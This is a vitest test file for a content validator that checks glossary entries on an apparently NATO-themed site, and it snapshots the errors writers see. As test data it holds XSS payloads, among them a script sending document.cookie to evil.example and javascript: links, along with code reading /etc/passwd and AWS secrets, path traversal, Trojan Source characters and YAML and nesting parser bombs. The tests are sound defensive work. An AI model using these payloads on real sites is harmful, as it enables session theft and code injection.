/**
 * Content is data, never code: every way an entry could carry code, active HTML, a dangerous
 * address or a parser bomb, with the exact message the writer sees. As in validate.test.ts, the
 * snapshots are product copy.
 */
import { describe, expect, test } from 'vitest';
import { edit, file, report, withFiles } from './content-set.ts';

const MAP = 'content/glossary/map.mdx';
const MAP_BODY = "The Membership Action Plan is NATO's help for would-be members.";

/** The report for the valid set with MAP's body (file line 11) replaced by `body`. */
const withBody = (body: string) => report(withFiles(edit(MAP, MAP_BODY, body)));

describe('code', () => {
  test('an import line', () => {
    expect(withBody("import fs from 'node:fs'\n\nThe plan.")).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`import fs from 'node:fs'\` is an \`import\` statement: code, which an entry cannot hold.
        Delete the line; the components <Term>, <PullQuote>, <Aside> work without importing anything. If it is a sentence that starts with “import”, capitalise the word or reword the start."
    `);
  });

  test('an export that reads a file', () => {
    expect(withBody("export const secret = fs.readFileSync('/etc/passwd', 'utf8')\n\nThe plan.")).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`export const secret = fs.readFileSync('/etc/passwd', 'utf8')\` is an \`export\` statement: code, which an entry cannot hold.
        Delete the line; the components <Term>, <PullQuote>, <Aside> work without importing anything. If it is a sentence that starts with “export”, capitalise the word or reword the start."
    `);
  });

  test('an expression in the text', () => {
    expect(withBody("The plan {fs.writeFileSync('/tmp/owned', 'x')} works.")).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`{fs.writeFileSync('/tmp/owned', 'x')}\` is a code expression, which an entry cannot hold.
        To show curly braces in the text, write \`&#123;\` for { and \`&#125;\` for }. A comment is written \`{/* … */}\`."
    `);
  });

  test('an expression on a line of its own', () => {
    expect(withBody('The plan.\n\n{process.env.AWS_SECRET_ACCESS_KEY}')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 13): \`{process.env.AWS_SECRET_ACCESS_KEY}\` is a code expression, which an entry cannot hold.
        To show curly braces in the text, write \`&#123;\` for { and \`&#125;\` for }. A comment is written \`{/* … */}\`."
    `);
  });

  test('a sentence that starts with "import" reads as code', () => {
    expect(withBody('import duties rose in 2014.')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): A paragraph that starts with \`import\` or \`export\` is read as code, which an entry cannot hold.
        If it is a sentence, capitalise the first word or reword the start. Entries need no imports: the components work as they are."
    `);
  });

  test('an attribute value written as code, and a spread', () => {
    expect(withBody('The <Term id={"nato"}>alliance</Term> and the <Term {...{ id: "nato" }}>alliance</Term>.')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): \`<Term {…}>\` passes code as attributes, which an entry cannot hold.
        Write each attribute as name="value". The attributes \`<Term>\` takes are \`id\`.

      content/glossary/map.mdx (line 11): The value of \`id\` on \`<Term>\` is a code expression, which an entry cannot hold.
        Write the value in quotation marks: id="…"."
    `);
  });

  test('a build-set attribute and an event handler on a component', () => {
    expect(withBody('<PullQuote cite="A" href="javascript:alert(1)" onClick="steal()">Words.</PullQuote>')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): \`<PullQuote>\` cannot have a \`href\` attribute.
        Remove it. The attributes \`<PullQuote>\` takes are \`cite\`.

      content/glossary/map.mdx (line 11): \`onClick\` on \`<PullQuote>\` is an event handler: code that would run in the reader’s browser.
        Remove it: an entry cannot hold code. The attributes \`<PullQuote>\` takes are \`cite\`."
    `);
  });

  test('an attribute with no value', () => {
    expect(withBody('<Aside title>A note.</Aside>')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`title\` on \`<Aside>\` has no value.
        Write it with a value in quotation marks: title="…"."
    `);
  });

  test('an empty tag', () => {
    expect(withBody('<>The plan.</>')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): An empty tag \`<>…</>\` is not allowed in entry text.
        Remove \`<>\` and \`</>\`: the text inside needs no wrapper."
    `);
  });

  test.each([
    ['a comment', 'The plan. {/* check the date with the desk */}'],
    ['a comment on a line of its own', 'The plan.\n\n{/*\n  Two lines of notes.\n*/}'],
    ['a sentence with import and export inside it', 'Ukraine wants to import gas and export grain.'],
    ['a capitalised Import at the start of a paragraph', 'Import duties rose.'],
  ])('%s is fine', (_, body) => {
    expect(withBody(body)).toBe('OK');
  });
});

describe('HTML', () => {
  test.each([
    ['a phrase in Ukrainian', '<span lang="uk">Слава Україні</span>'],
    ['an abbreviation', '<abbr title="Membership Action Plan">MAP</abbr>'],
    ['an Arabic name, isolated', 'The envoy <bdi lang="ar" dir="rtl">سلام</bdi> said so.'],
    ['a Hebrew phrase', '<span dir="rtl" lang="he">שלום</span>'],
    ['formulas, ordinals, a break, a key, a highlight, fine print', 'CO<sub>2</sub>, the 21<sup>st</sup>,<br />a line, <kbd>Ctrl</kbd>, <mark>this</mark>, <small>fine print</small>'],
  ])('%s is fine', (_, body) => {
    expect(withBody(body)).toBe('OK');
  });

  test('a script', () => {
    expect(withBody('<script>fetch("https://evil.example/?c=" + document.cookie)</script>')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`<script>\` is not allowed in entry text.
        Entries are published as they are written, so they cannot run code, embed other pages or media, send forms or change the page’s head. The HTML elements an entry can use are <span>, <abbr>, <bdi>, <sub>, <sup>, <br>, <kbd>, <mark>, <small>."
    `);
  });

  test('a script inside an SVG', () => {
    expect(withBody('<svg><script>alert(1)</script></svg>')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): \`<script>\` is not allowed in entry text.
        Entries are published as they are written, so they cannot run code, embed other pages or media, send forms or change the page’s head. The HTML elements an entry can use are <span>, <abbr>, <bdi>, <sub>, <sup>, <br>, <kbd>, <mark>, <small>.

      content/glossary/map.mdx (line 11): \`<svg>\` is not allowed in entry text.
        Entries are published as they are written, so they cannot run code, embed other pages or media, send forms or change the page’s head. The HTML elements an entry can use are <span>, <abbr>, <bdi>, <sub>, <sup>, <br>, <kbd>, <mark>, <small>."
    `);
  });

  test.each([
    ['a style sheet', '<style>@import url(https://evil.example/hide-the-page.css);</style>'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['a form', '<form action="https://evil.example/">Send</form>'],
    ['a refresh that sends readers elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'],
    ['a base address', '<base href="https://evil.example/" />'],
    ['an object', '<object data="https://evil.example/x.swf"></object>'],
    ['an embed', '<embed src="https://evil.example/x.swf" />'],
    ['a link element', '<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ])('%s', (_, body) => {
    expect(withBody(body)).toMatch(/^Found 1 problem in 1 content file\.\n\ncontent\/glossary\/map\.mdx \(line 11\): `<\w+>` is not allowed in entry text\.\n {2}Entries are published as they are written, so they cannot run code/);
  });

  test('an HTML link, with what to write instead', () => {
    expect(withBody('<a href="https://www.nato.int/">NATO</a>')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`<a>\` is not allowed in entry text.
        Write a link in Markdown: [the text](https://example.org/page)."
    `);
  });

  test('a misspelt element', () => {
    expect(withBody('<spam lang="uk">Київ</spam>')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): \`<spam>\` is not allowed in entry text.
        The HTML elements an entry can use are <span>, <abbr>, <bdi>, <sub>, <sup>, <br>, <kbd>, <mark>, <small>. Did you mean \`span\`?"
    `);
  });

  test('attributes that are not allowed, and values that are not valid', () => {
    expect(withBody('<span lang="english" dir="up" style="color: red" class="term-popover" onmouseover="alert(1)">x</span>')).toMatchInlineSnapshot(`
      "Found 5 problems in 1 content file.

      content/glossary/map.mdx (line 11): \`<span>\` cannot have a \`class\` attribute.
        Remove it. The attributes \`<span>\` takes are \`lang\`, \`dir\`, \`title\`.

      content/glossary/map.mdx (line 11): \`<span>\` cannot have a \`style\` attribute.
        Remove it. The attributes \`<span>\` takes are \`lang\`, \`dir\`, \`title\`.

      content/glossary/map.mdx (line 11): \`dir="up"\` on \`<span>\` is not a direction.
        Use \`ltr\`, \`rtl\`, \`auto\`: \`rtl\` for Arabic or Hebrew.

      content/glossary/map.mdx (line 11): \`lang="english"\` on \`<span>\` is not a language code.
        Use a language code such as \`uk\` (Ukrainian), \`ru\` (Russian), \`ar\` (Arabic), \`he\` (Hebrew) or \`en-GB\`.

      content/glossary/map.mdx (line 11): \`onmouseover\` on \`<span>\` is an event handler: code that would run in the reader’s browser.
        Remove it: an entry cannot hold code. The attributes \`<span>\` takes are \`lang\`, \`dir\`, \`title\`."
    `);
  });

  test('a long run of problems is cut short', () => {
    const problems = withBody('<b>x</b> '.repeat(25)).split('\n\n');
    expect(problems[0]).toBe('Found 21 problems in 1 content file.');
    expect(problems.slice(1, 21).every((problem) => problem.includes('`<b>` is not allowed'))).toBe(true);
    expect(problems[21]).toMatchInlineSnapshot(`
      "content/glossary/map.mdx (line 11): The text has 5 more problems like these from this line on.
        Fix the ones listed, then run \`npm run validate\` again."
    `);
  });
});

describe('links and images', () => {
  test('a javascript: link', () => {
    expect(withBody('[Read more](javascript:alert(document.cookie))')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): The link \`javascript:alert(document.cookie)\` is not allowed: a \`javascript:\` address runs code in the reader’s browser when clicked.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/)."
    `);
  });

  test('a javascript: link hidden by capitals and an encoded tab', () => {
    expect(withBody('[a](JavaScript:alert(1)) [b](jav&#x09;ascript:alert(1))')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): The link \`jav ascript:alert(1)\` is not allowed: a \`javascript:\` address runs code in the reader’s browser when clicked.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/).

      content/glossary/map.mdx (line 11): The link \`JavaScript:alert(1)\` is not allowed: a \`javascript:\` address runs code in the reader’s browser when clicked.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/)."
    `);
  });

  test('vbscript: and data: links', () => {
    expect(withBody('[a](vbscript:msgbox(1)) [b](data:text/html;base64,PHNjcmlwdD4=)')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): The link \`data:text/html;base64,PHNjcmlwdD4=\` is not allowed: a \`data:\` address holds a whole file, which could be a script, instead of pointing to one.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/).

      content/glossary/map.mdx (line 11): The link \`vbscript:msgbox(1)\` is not allowed: a \`vbscript:\` address runs code in the reader’s browser when clicked.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/)."
    `);
  });

  test('a link definition, used by a link and an image', () => {
    expect(withBody('[Read more][more] and ![A chart][more]\n\n[more]: javascript:alert(1)')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): The image \`javascript:alert(1)\` is not allowed: a \`javascript:\` address runs code in the reader’s browser when clicked.
        Save the picture next to the entry in the content folder (with permission to use it, and its credit in the text) and give its path, such as ./map.png.

      content/glossary/map.mdx (line 13): The link \`javascript:alert(1)\` is not allowed: a \`javascript:\` address runs code in the reader’s browser when clicked.
        Link to a web page (https://…), an email address (mailto:…), a phone number (tel:…) or a page of this site (/glossary/nato/)."
    `);
  });

  test('a data: image', () => {
    expect(withBody('![A chart](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): The image \`data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\` is not allowed: a \`data:\` address holds a whole file, which could be a script, instead of pointing to one.
        Save the picture next to the entry in the content folder (with permission to use it, and its credit in the text) and give its path, such as ./map.png."
    `);
  });

  test('an image on another website', () => {
    expect(withBody('![A map](https://example.org/map.png)')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): The image \`https://example.org/map.png\` is on another website, so readers would not see it: the site shows only its own images, and another website could change or remove the picture after it was reviewed.
        Save the picture next to the entry in the content folder (with permission to use it, and its credit in the text) and give its path, such as ./map.png."
    `);
  });

  test('an image path that climbs out of the content folder', () => {
    expect(withBody('![Passwords](../../../../etc/passwd) ![Encoded](%2E%2E/%2E%2E/secret.png)')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): The image \`../../../../etc/passwd\` is outside the content folder.
        Keep images in the content folder and give their path from the entry, such as ./map.png, so the build never reads files from elsewhere.

      content/glossary/map.mdx (line 11): The image \`%2E%2E/%2E%2E/secret.png\` is outside the content folder.
        Keep images in the content folder and give their path from the entry, such as ./map.png, so the build never reads files from elsewhere."
    `);
  });

  test.each([
    ['web, mail and phone links', '[NATO](https://www.nato.int/), [press](mailto:press@nato.int), [call](tel:+3222070000)'],
    ['links to this site and to a place on the page', '[the glossary](/glossary/nato/), [below](#notes), [the term](../nato/)'],
    ['images from the content folder and the site', '![A chart](./chart.png) ![Shared](../images/chart.png) ![Logo](/favicon.svg)'],
  ])('%s are fine', (_, body) => {
    expect(withBody(body)).toBe('OK');
  });
});

describe('hostile input', () => {
  test('an entry over the size limit', () => {
    expect(withBody(`${'A sentence of ordinary prose. '.repeat(2300)}`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx: The file is 68 KB; an entry can be at most 64 KB.
        That is about 10,000 words of text, more than any article, event or term needs. A file this large usually holds pasted data or a mistake: check what was pasted, or split the text into several entries."
    `);
  });

  test('control characters', () => {
    expect(withBody('A bell\u0007 and a null\u0000, and a second bell\u0007.')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): Column 19 holds the invisible control character U+0000.
        Delete it: it usually comes from text pasted out of another program. Retype the characters around it if the text looks wrong.

      content/glossary/map.mdx (line 11): Column 7 holds the invisible control character U+0007. It occurs 2 times in the file.
        Delete it: it usually comes from text pasted out of another program. Retype the characters around it if the text looks wrong."
    `);
  });

  /** The report with MAP's `term` field written as `value` (a YAML scalar). */
  const withTerm = (value: string) => report(withFiles(edit(MAP, /^term: .*$/m, `term: ${value}`)));

  test('a control character written as a YAML escape in a field', () => {
    expect(withTerm('"Membership Action Plan\\a"')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 2): The field \`term\` holds the invisible control character U+0007, written as an escape in double quotes (such as \`\\a\`, \`\\x07\` or \`\\u202E\`).
        Delete the escape: readers would see nothing there, or a box, and the field needs no control character."
    `);
  });

  test('a right-to-left override written as a YAML escape in a field', () => {
    expect(withTerm('"Membership \\u202EAction Plan"')).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 2): The field \`term\` holds the invisible character U+202E RIGHT-TO-LEFT OVERRIDE, written as an escape in double quotes (such as \`\\a\`, \`\\x07\` or \`\\u202E\`).
        Delete the escape. To set a phrase in Arabic or Hebrew, write it as it is; its direction comes from its letters."
    `);
  });

  test('a right-to-left override that reverses text on screen (Trojan Source)', () => {
    expect(withBody('Donate at \u202Egro.elpmaxe\u202C.')).toMatchInlineSnapshot(`
      "Found 2 problems in 1 content file.

      content/glossary/map.mdx (line 11): Column 11 holds the invisible character U+202E RIGHT-TO-LEFT OVERRIDE, which can make text display in a different order from the one it is written in.
        Delete it. To set a phrase in Arabic or Hebrew inside English text, write <bdi lang="ar">…</bdi> or <span dir="rtl" lang="he">…</span>.

      content/glossary/map.mdx (line 11): Column 23 holds the invisible character U+202C POP DIRECTIONAL FORMATTING, which can make text display in a different order from the one it is written in.
        Delete it. To set a phrase in Arabic or Hebrew inside English text, write <bdi lang="ar">…</bdi> or <span dir="rtl" lang="he">…</span>."
    `);
  });

  test('a control character in the frontmatter', () => {
    expect(report(withFiles(edit(MAP, 'term: MAP', 'term: MA\u0008P')))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 2): Column 9 holds the invisible control character U+0008.
        Delete it: it usually comes from text pasted out of another program. Retype the characters around it if the text looks wrong."
    `);
  });

  test('directional marks, which Arabic and Hebrew need, are fine', () => {
    expect(withBody('Hebrew \u200Fשלום\u200F and Arabic \u061Cسلام.')).toBe('OK');
  });

  test('quotations nested 2,000 deep', () => {
    expect(withBody(`${'> '.repeat(2000)}deep`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): This line is nested more than 20 levels deep: lists in lists, quotations (\`>\`) in quotations, or indentation.
        Each \`>\`, each list marker and every two spaces of indentation at the start of a line count as a level. No entry needs more than a few: flatten the structure, and remove indentation the text does not need."
    `);
  });

  test('a list nested past the limit', () => {
    expect(withBody(Array.from({ length: 30 }, (_, i) => `${'  '.repeat(i)}- level ${i + 1}`).join('\n'))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 31): This line is nested more than 20 levels deep: lists in lists, quotations (\`>\`) in quotations, or indentation.
        Each \`>\`, each list marker and every two spaces of indentation at the start of a line count as a level. No entry needs more than a few: flatten the structure, and remove indentation the text does not need."
    `);
  });

  test('components nested 1,000 deep', () => {
    expect(withBody(`${'<Aside>'.repeat(1000)}x${'</Aside>'.repeat(1000)}`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): More than 100 components or HTML elements are open at once here.
        A closing tag is probably missing or misspelt: check that every <Aside>, <PullQuote>, <Term> and <span> has its closing tag."
    `);
  });

  test('square brackets nested past the limit', () => {
    expect(withBody(`${'['.repeat(500)}x${']'.repeat(500)}`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): More than 100 square brackets \`[\` are open at once in this paragraph.
        Check that the text of each link ends with \`]\`. To show a square bracket itself, write \`\\[\`."
    `);
  });

  test('curly braces nested past the limit', () => {
    expect(withBody(`${'{'.repeat(500)}${'}'.repeat(500)}`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): More than 100 curly braces \`{\` are open at once here.
        An entry cannot hold code. To show a curly brace, write \`&#123;\` for { and \`&#125;\` for }."
    `);
  });

  test('emphasis nested past the limit', () => {
    expect(withBody(`${'*'.repeat(500)}x${'*'.repeat(500)}`)).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 11): More than 100 emphasis markers (\`*\`, \`_\` or \`~\`) are open at once in this paragraph.
        Check for a long run of \`*\` or \`_\`. For a dividing line, write \`---\` on a line of its own; to show an asterisk itself, write \`\\*\`."
    `);
  });

  test('a YAML alias bomb', () => {
    const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...'bcdefghi'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`)].join('\n');
    expect(report(withFiles(file('glossary', 'bomb.mdx', `---\n${bomb}\n---\nText.\n`)))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/bomb.mdx (line 2): \`&a\` is a YAML anchor, which marks a value for repeating elsewhere. Entries do not use aliases, anchors or tags.
        Write each value out in full. A value that starts with \`*\`, \`&\` or \`!\` must be in double quotes, such as \`title: "*Breaking* news"\`."
    `);
  });

  test('a value that starts with * reads as an alias', () => {
    expect(report(withFiles(edit(MAP, 'term: MAP', 'term: *MAP*')))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 2): \`*MAP*\` is a YAML alias, which repeats a value marked elsewhere with \`&\`. Entries do not use aliases, anchors or tags.
        Write each value out in full. A value that starts with \`*\`, \`&\` or \`!\` must be in double quotes, such as \`term: "*MAP*"\`."
    `);
  });

  test('a YAML tag', () => {
    expect(report(withFiles(edit(MAP, 'term: MAP', 'term: !!binary TUFQ')))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 2): \`!!binary\` is a YAML tag, which changes how a value is read. Entries do not use aliases, anchors or tags.
        Write each value out in full. A value that starts with \`*\`, \`&\` or \`!\` must be in double quotes, such as \`term: "!!binary TUFQ"\`."
    `);
  });

  test('frontmatter lists nested 10,000 deep', () => {
    expect(report(withFiles(edit(MAP, 'related: [nato]', `related: ${'['.repeat(10000)}${']'.repeat(10000)}`)))).toMatchInlineSnapshot(`
      "Found 1 problem in 1 content file.

      content/glossary/map.mdx (line 6): The frontmatter has more than 20 lists or maps (\`[\` or \`{\`) open inside each other here.
        Write a list as \`[a, b]\` on one line or as one \`- item\` per line. No field goes deeper than a list of \`name:\`/\`url:\` pairs."
    `);
  });
});
